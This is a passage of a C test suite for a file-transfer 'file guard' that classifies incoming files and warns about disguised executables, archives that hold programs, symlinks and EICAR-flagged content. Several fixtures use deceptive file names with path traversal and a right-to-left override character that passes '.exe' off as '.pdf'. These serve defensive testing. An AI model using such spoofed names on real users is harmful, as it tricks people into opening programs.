      SottoFileContent content = content_of (bytes->data, bytes->len, scan_result (row->scan),
                                             row->detail);

      verdict = sotto_file_guard_check (row->name, &content);
      g_assert_nonnull (verdict);
      ids = finding_ids (verdict);
      g_test_message ("%u: “%s”, %u bytes: %s (expected %s), %s (expected %s): %s", i,
                      row->name, bytes->len, verdict->kind, row->kind,
                      sotto_file_action_to_string (verdict->action),
                      sotto_file_action_to_string (row->action), ids);

      assert_consistent (verdict, row->name, &content);
      g_assert_cmpstr (verdict->kind, ==, row->kind);
      g_assert_cmpint (verdict->action, ==, row->action);
      assert_row_findings (verdict, row->present, G_N_ELEMENTS (row->present),
                           row->absent, G_N_ELEMENTS (row->absent), row->complete);
      if (row->sniffed != NULL)
        g_assert_cmpstr (verdict->sniffed_type, ==, row->sniffed);
    }
}

/* /file-guard/check-path ---------------------------------------------------- */

typedef struct
{
  char      *dir;
  GPtrArray *created;       /* paths to remove, in the order made */
} Scratch;

static char *
scratch_write (Scratch          *scratch,
               const char       *name,
               const GByteArray *bytes)
{
  g_autoptr (GError) error = NULL;
  char *path = g_build_filename (scratch->dir, name, NULL);

  g_file_set_contents (path, bytes->len > 0 ? (const char *) bytes->data : "", bytes->len,
                       &error);
  g_assert_no_error (error);
  g_ptr_array_add (scratch->created, g_strdup (path));

  return path;
}

/* The verdict for the file at @path is the one for its bytes, cut into
 * head and tail the documented way. */
static SottoFileVerdict *
check_file (const char       *path,
            const char       *name,
            const GByteArray *bytes,
            SottoScanResult   scan,
            const char       *scan_detail)
{
  g_autoptr (GError) error = NULL;
  g_autoptr (SottoFileVerdict) from_bytes = NULL;
  g_autofree char *basename = g_path_get_basename (path);
  g_autofree char *ids = NULL;
  SottoFileVerdict *verdict = NULL;
  SottoFileContent content = content_of (bytes->data, bytes->len, scan, scan_detail);
  const char *expected_name = name != NULL ? name : basename;

  verdict = sotto_file_guard_check_path (path, name, scan, scan_detail, &error);
  g_assert_no_error (error);
  g_assert_nonnull (verdict);
  ids = finding_ids (verdict);
  g_test_message ("%s as “%s”, %u bytes: %s, %s: %s", basename, expected_name, bytes->len,
                  verdict->kind, sotto_file_action_to_string (verdict->action), ids);

  assert_consistent (verdict, expected_name, &content);
  g_assert_cmpstr (verdict->name, ==, expected_name);

  from_bytes = sotto_file_guard_check (expected_name, &content);
  assert_verdicts_equal (verdict, from_bytes);

  return verdict;
}

static void
assert_path_refused (const char *path,
                     gint        code)
{
  g_autoptr (GError) error = NULL;
  g_autoptr (SottoFileVerdict) verdict = NULL;
  g_autofree char *basename = g_path_get_basename (path);

  verdict = sotto_file_guard_check_path (path, NULL, SOTTO_SCAN_CLEAN, NULL, &error);
  g_assert_null (verdict);
  g_assert_nonnull (error);
  g_test_message ("%s: refused: %s", basename, error->message);
  g_assert_cmpstr (error->message, !=, "");
  if (code >= 0)
    g_assert_error (error, G_IO_ERROR, code);
  else
    g_assert_true (error->domain == G_IO_ERROR);
}

static GByteArray *
bytes_of (const char *text)
{
  GByteArray *bytes = g_byte_array_new ();

  g_byte_array_append (bytes, (const guint8 *) text, strlen (text));

  return bytes;
}

static void
test_check_path (void)
{
  g_autoptr (GError) error = NULL;
  Scratch scratch = { NULL, g_ptr_array_new_with_free_func (g_free) };

  scratch.dir = g_dir_make_tmp ("sotto-file-guard-XXXXXX", &error);
  g_assert_no_error (error);

  /* A text file, by its own name and by the one it was sent as. */
  {
    g_autoptr (GByteArray) bytes = bytes_of ("hello\n");
    g_autofree char *path = scratch_write (&scratch, "notes.txt", bytes);
    g_autoptr (SottoFileVerdict) own = check_file (path, NULL, bytes, SOTTO_SCAN_CLEAN, NULL);
    g_autoptr (SottoFileVerdict) sent = check_file (path, "setup.exe", bytes,
                                                    SOTTO_SCAN_CLEAN, NULL);
    g_autoptr (SottoFileVerdict) tricky = check_file (path, "../../x\u202Efdp.exe", bytes,
                                                      SOTTO_SCAN_CLEAN, NULL);
    g_autoptr (SottoFileVerdict) flagged = check_file (path, NULL, bytes, SOTTO_SCAN_INFECTED,
                                                       "Eicar-Signature");

    g_assert_cmpstr (own->name, ==, "notes.txt");
    g_assert_cmpstr (own->safe_name, ==, "notes.txt");
    g_assert_cmpstr (own->kind, ==, "text");
    g_assert_cmpint (own->action, ==, ASK);
    g_assert_cmpuint (own->findings->len, ==, 0);

    g_assert_cmpstr (sent->name, ==, "setup.exe");
    g_assert_cmpstr (sent->kind, ==, "text");
    g_assert_cmpint (sent->action, ==, SHOW_ONLY);
    assert_finding (sent, "executable", TRUE);

    g_assert_cmpstr (tricky->safe_name, ==, "xfdp.exe");
    assert_finding (tricky, "path", TRUE);
    assert_finding (tricky, "bidi", TRUE);
    g_assert_cmpint (tricky->action, ==, SHOW_ONLY);

    g_assert_cmpint (flagged->action, ==, BLOCK);
    assert_finding (flagged, "infected", TRUE);
  }

  /* Nothing in it. */
  {
    g_autoptr (GByteArray) bytes = g_byte_array_new ();
    g_autofree char *path = scratch_write (&scratch, "empty", bytes);
    g_autoptr (SottoFileVerdict) verdict = check_file (path, NULL, bytes, SOTTO_SCAN_CLEAN,
                                                       NULL);

    g_assert_cmpstr (verdict->kind, ==, "empty");
    assert_finding (verdict, "empty", TRUE);
  }

  /* A program called a document. */
  {
    g_autoptr (GByteArray) bytes = g_byte_array_new ();
    g_autofree char *path = NULL;
    g_autoptr (SottoFileVerdict) verdict = NULL;

    g_byte_array_append (bytes, (const guint8 *) ELF_HEAD, sizeof ELF_HEAD - 1);
    put_bytes (bytes, 0, 10000);
    path = scratch_write (&scratch, "report.pdf", bytes);
    verdict = check_file (path, NULL, bytes, SOTTO_SCAN_CLEAN, NULL);
    g_assert_cmpstr (verdict->kind, ==, "elf");
    g_assert_cmpint (verdict->action, ==, SHOW_ONLY);
    assert_finding (verdict, "executable", TRUE);
    assert_finding (verdict, "type-mismatch", TRUE);
  }

  /* Archives of exactly the head's size, and one byte more: 108 bytes of
   * headers for one entry called "a.txt". */
  for (gsize size = SOTTO_FILE_HEAD_LEN; size <= SOTTO_FILE_HEAD_LEN + 1; size++)
    {
      static const char * const entry[] = { "a.txt" };
      g_autofree char *filler = g_strnfill (size - 108, 'x');
      const char *contents[] = { filler };
      g_autoptr (GByteArray) bytes = build_zip (entry, contents, 1, NULL, NULL);
      g_autofree char *file_name = g_strdup_printf ("files-%" G_GSIZE_FORMAT ".zip", size);
      g_autofree char *path = NULL;
      g_autoptr (SottoFileVerdict) verdict = NULL;

      g_assert_cmpuint (bytes->len, ==, size);
      path = scratch_write (&scratch, file_name, bytes);
      verdict = check_file (path, NULL, bytes, SOTTO_SCAN_CLEAN, NULL);
      g_assert_cmpstr (verdict->kind, ==, "zip");
      g_assert_cmpint (verdict->action, ==, ASK);
      assert_finding (verdict, "archive", TRUE);
    }

  /* Larger than head and tail together: the head says ZIP, the tail holds
   * the list. */
  {
    static const char * const entries[] = { "big.bin", "setup.exe" };
    g_autofree char *big = g_strnfill (SOTTO_FILE_HEAD_LEN + SOTTO_FILE_TAIL_LEN + 1000, 'x');
    const char *contents[] = { big, "MZ" };
    g_autoptr (GByteArray) bytes = build_zip (entries, contents, 2, NULL, NULL);
    g_autofree char *path = scratch_write (&scratch, "photos.zip", bytes);
    g_autoptr (SottoFileVerdict) verdict = NULL;

    g_assert_cmpuint (bytes->len, >, SOTTO_FILE_HEAD_LEN + SOTTO_FILE_TAIL_LEN);
    verdict = check_file (path, NULL, bytes, SOTTO_SCAN_CLEAN, NULL);
    g_assert_cmpstr (verdict->kind, ==, "zip");
    g_assert_cmpint (verdict->action, ==, WARN);
    assert_finding (verdict, "archive", TRUE);
    assert_finding (verdict, "archive-holds-program", TRUE);
    assert_finding (verdict, "archive-unreadable", FALSE);
  }

  /* A self-extracting archive: a program in the head, an archive in the
   * tail whose offsets do not count the program. */
  {
    static const char * const entries[] = { "a.txt", "setup.exe" };
    const ZipOptions options = { .prefix_len = SOTTO_FILE_HEAD_LEN + SOTTO_FILE_TAIL_LEN };
    g_autoptr (GByteArray) bytes = build_zip (entries, NULL, 2, &options, NULL);
    g_autofree char *path = scratch_write (&scratch, "archive.zip", bytes);
    g_autoptr (SottoFileVerdict) verdict = NULL;
    g_autoptr (GPtrArray) listed = NULL;

    verdict = check_file (path, NULL, bytes, SOTTO_SCAN_CLEAN, NULL);
    g_assert_cmpstr (verdict->kind, ==, "elf");
    g_assert_cmpint (verdict->action, ==, SHOW_ONLY);
    assert_finding (verdict, "executable", TRUE);
    assert_finding (verdict, "type-mismatch", TRUE);

    listed = list_tail (bytes, SOTTO_FILE_TAIL_LEN, bytes->len, &error);
    g_assert_no_error (error);
    assert_listed (listed, entries, 2);
  }

  /* A list of entries longer than the tail is not read. */
  {
    g_autoptr (GPtrArray) names = g_ptr_array_new_with_free_func (g_free);
    g_autofree char *long_part = g_strnfill (194, 'n');
    g_autoptr (GByteArray) bytes = NULL;
    g_autofree char *path = NULL;
    g_autoptr (SottoFileVerdict) verdict = NULL;
    g_autoptr (GPtrArray) listed = NULL;
    ZipLayout layout = { 0 };

    /* 4400 entries of 46 + 200 bytes: past 1 MiB. */
    for (guint i = 0; i < 4400; i++)
      g_ptr_array_add (names, g_strdup_printf ("d%05u%s", i, long_part));
    bytes = build_zip ((const char * const *) names->pdata, NULL, names->len, NULL, &layout);
    g_assert_cmpuint (layout.cd_end - layout.cd_start, >, SOTTO_FILE_TAIL_LEN);

    /* Itself sound... */
    listed = list_tail (bytes, bytes->len, bytes->len, &error);
    g_assert_no_error (error);
    assert_listed (listed, (const char * const *) names->pdata, names->len);

    /* ...but not within the tail that is read. */
    path = scratch_write (&scratch, "many.zip", bytes);
    verdict = check_file (path, NULL, bytes, SOTTO_SCAN_CLEAN, NULL);
    g_assert_cmpstr (verdict->kind, ==, "zip");
    g_assert_cmpint (verdict->action, ==, WARN);
    assert_finding (verdict, "archive-unreadable", TRUE);
  }

  /* Links are never followed, whatever they point to. */
  {
    g_autofree char *to_file = g_build_filename (scratch.dir, "link.txt", NULL);
    g_autofree char *to_nothing = g_build_filename (scratch.dir, "dangling.txt", NULL);

    g_assert_cmpint (symlink ("notes.txt", to_file), ==, 0);
    g_ptr_array_add (scratch.created, g_strdup (to_file));
    g_assert_cmpint (symlink ("no-such-file", to_nothing), ==, 0);
    g_ptr_array_add (scratch.created, g_strdup (to_nothing));

    assert_path_refused (to_file, -1);
    assert_path_refused (to_nothing, -1);
  }

  /* Not a file, or not there. */
  {
    g_autofree char *folder = g_build_filename (scratch.dir, "folder.pdf", NULL);
    g_autofree char *missing = g_build_filename (scratch.dir, "missing.pdf", NULL);

    g_assert_cmpint (g_mkdir (folder, 0700), ==, 0);
    g_ptr_array_add (scratch.created, g_strdup (folder));

    assert_path_refused (folder, G_IO_ERROR_NOT_REGULAR_FILE);
    assert_path_refused (missing, G_IO_ERROR_NOT_FOUND);
  }

  for (guint i = scratch.created->len; i > 0; i--)
    g_assert_cmpint (g_remove (g_ptr_array_index (scratch.created, i - 1)), ==, 0);
  g_assert_cmpint (g_rmdir (scratch.dir), ==, 0);
  g_ptr_array_unref (scratch.created);
  g_free (scratch.dir);
}

/* Actions and the boxed type ------------------------------------------------ */

static void
test_action_names (void)
{
  SottoFileAction actions[] = { ASK, WARN, SHOW_ONLY, BLOCK };

  for (guint i = 0; i < G_N_ELEMENTS (actions); i++)
    {
      const char *name = sotto_file_action_to_string (actions[i]);

      g_assert_nonnull (name);
      g_assert_cmpstr (name, !=, "");
      for (guint j = 0; j < i; j++)
        g_assert_cmpstr (name, !=, sotto_file_action_to_string (actions[j]));
    }
}

/* The boxed type is how verdicts travel in signals and GValues. */
static void
test_boxed (void)
{
  g_autoptr (SottoFileVerdict) verdict = NULL;
  SottoFileVerdict *copy = NULL;
  SottoFileContent content = content_of ((const guint8 *) ELF_HEAD, sizeof ELF_HEAD - 1,
                                         SOTTO_SCAN_NOT_SCANNED, NULL);

  verdict = sotto_file_guard_check ("../invoice\u202Efdp.exe", &content);
  copy = g_boxed_copy (SOTTO_TYPE_FILE_VERDICT, verdict);

  g_assert_true (G_TYPE_IS_BOXED (SOTTO_TYPE_FILE_VERDICT));
  g_assert_cmpuint (verdict->findings->len, >, 1);
  assert_verdicts_equal (verdict, copy);
  g_boxed_free (SOTTO_TYPE_FILE_VERDICT, copy);
}

/* What a receiver reads under an offer --------------------------------------- */

static char *
offer_about (const char        *name,
             const char        *head,
             gsize              head_len,
             SottoVerification  verification)
{
  guint8 uid[SOTTO_FILE_ID_LEN] = { 1 };
  guint8 hash[SOTTO_FILE_HASH_LEN] = { 0 };
  g_autoptr (GBytes) bytes = g_bytes_new (head, head_len);
  g_autoptr (SottoTransfer) transfer = NULL;

  transfer = _sotto_transfer_new (1, uid, SOTTO_DIRECTION_IN, g_get_real_time (), name,
                                  1000000, hash, bytes, "");
  return sotto_transfer_dup_offer_about (transfer, "Bea", verification);
}

/* The type by name and by content, the sender's key, the guard's findings;
 * never "not scanned", as the scan comes once the file is in. */
static void
test_offer_about (void)
{
  g_autofree char *pdf = g_content_type_get_description ("application/pdf");
  g_autofree char *elf = g_content_type_get_description ("application/x-executable");
  g_autofree char *plain = NULL;
  g_autofree char *mismatch = NULL;
  g_autofree char *expected = NULL;

  plain = offer_about ("minutes.pdf", PDF_HEAD, sizeof PDF_HEAD - 1, SOTTO_VERIFICATION_VERIFIED);
  expected = g_strdup_printf ("Type: %s\nFrom Bea, whose key you verified", pdf);
  g_assert_cmpstr (plain, ==, expected);
  g_clear_pointer (&plain, g_free);
  g_clear_pointer (&expected, g_free);

  plain = offer_about ("minutes.pdf", PDF_HEAD, sizeof PDF_HEAD - 1,
                       SOTTO_VERIFICATION_UNVERIFIED);
  expected = g_strdup_printf ("Type: %s\nFrom Bea, whose key you have not verified", pdf);
  g_assert_cmpstr (plain, ==, expected);
  g_clear_pointer (&plain, g_free);

  plain = offer_about ("minutes.pdf", PDF_HEAD, sizeof PDF_HEAD - 1,
                       SOTTO_VERIFICATION_KEY_CHANGED);
  g_assert_true (g_str_has_suffix (plain, "\nFrom Bea, whose key has changed since you last spoke"));

  /* A program named as a document: both types said, and the findings. */
  mismatch = offer_about ("report.pdf", ELF_HEAD, sizeof ELF_HEAD - 1,
                          SOTTO_VERIFICATION_VERIFIED);
  g_clear_pointer (&expected, g_free);
  expected = g_strdup_printf ("Named as %s; its content is %s\n"
                              "From Bea, whose key you verified\n", pdf, elf);
  g_assert_true (g_str_has_prefix (mismatch, expected));
  {
    SottoFileContent content = content_of ((const guint8 *) ELF_HEAD, sizeof ELF_HEAD - 1,
                                           SOTTO_SCAN_NOT_SCANNED, NULL);
    g_autoptr (SottoFileVerdict) verdict = sotto_file_guard_check ("report.pdf", &content);
    guint said = 0;

    for (guint i = 0; i < verdict->findings->len; i++)
      {
        SottoFileFinding *finding = g_ptr_array_index (verdict->findings, i);

        if (g_str_equal (finding->id, "not-scanned"))
          {
            g_assert_null (strstr (mismatch, finding->text));
            continue;
          }
        g_assert_nonnull (strstr (mismatch, finding->text));
        said++;
      }
    g_assert_cmpuint (said, >=, 2);   /* executable, type-mismatch */
  }
}

int
main (int   argc,
      char *argv[])
{
  g_test_init (&argc, &argv, NULL);

  g_test_add_func ("/file-guard/zip", test_zip);
  g_test_add_func ("/file-guard/names", test_names);
  g_test_add_func ("/file-guard/contents", test_contents);
  g_test_add_func ("/file-guard/check-path", test_check_path);
  g_test_add_func ("/file-guard/action-names", test_action_names);
  g_test_add_func ("/file-guard/boxed", test_boxed);
  g_test_add_func ("/file-guard/offer-about", test_offer_about);

  return g_test_run ();
}
